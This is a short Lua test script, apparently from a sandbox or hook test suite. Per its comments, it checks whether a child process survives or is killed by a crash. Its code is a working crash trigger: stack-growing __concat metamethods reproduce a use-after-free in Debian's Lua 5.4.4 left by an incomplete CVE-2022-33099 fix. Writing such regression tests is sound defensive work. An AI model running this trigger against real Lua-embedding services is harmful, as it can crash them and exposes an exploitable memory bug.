-- expect: 4 the hook process was killed by signal|survived the concat crasher
-- (Debian's 5.4.4 crashes: SIGSEGV, or SIGSYS under ASan, whose report
-- the filter stops; the child dies alone. A fixed liblua survives.)
-- __concat metamethods that grow the stack mid-concatenation (the
-- use-after-free the backported CVE-2022-33099 fix left behind)
local mt = {}
mt.__concat = function(a, b)
  local function deep(n) if n > 0 then return deep(n - 1) + 1 end return 0 end
  deep(180)
  return setmetatable({}, mt)
end
local x = setmetatable({}, mt)
for _ = 1, 200 do
  local _ = x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x
    .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x .. x
end
error("survived the concat crasher")
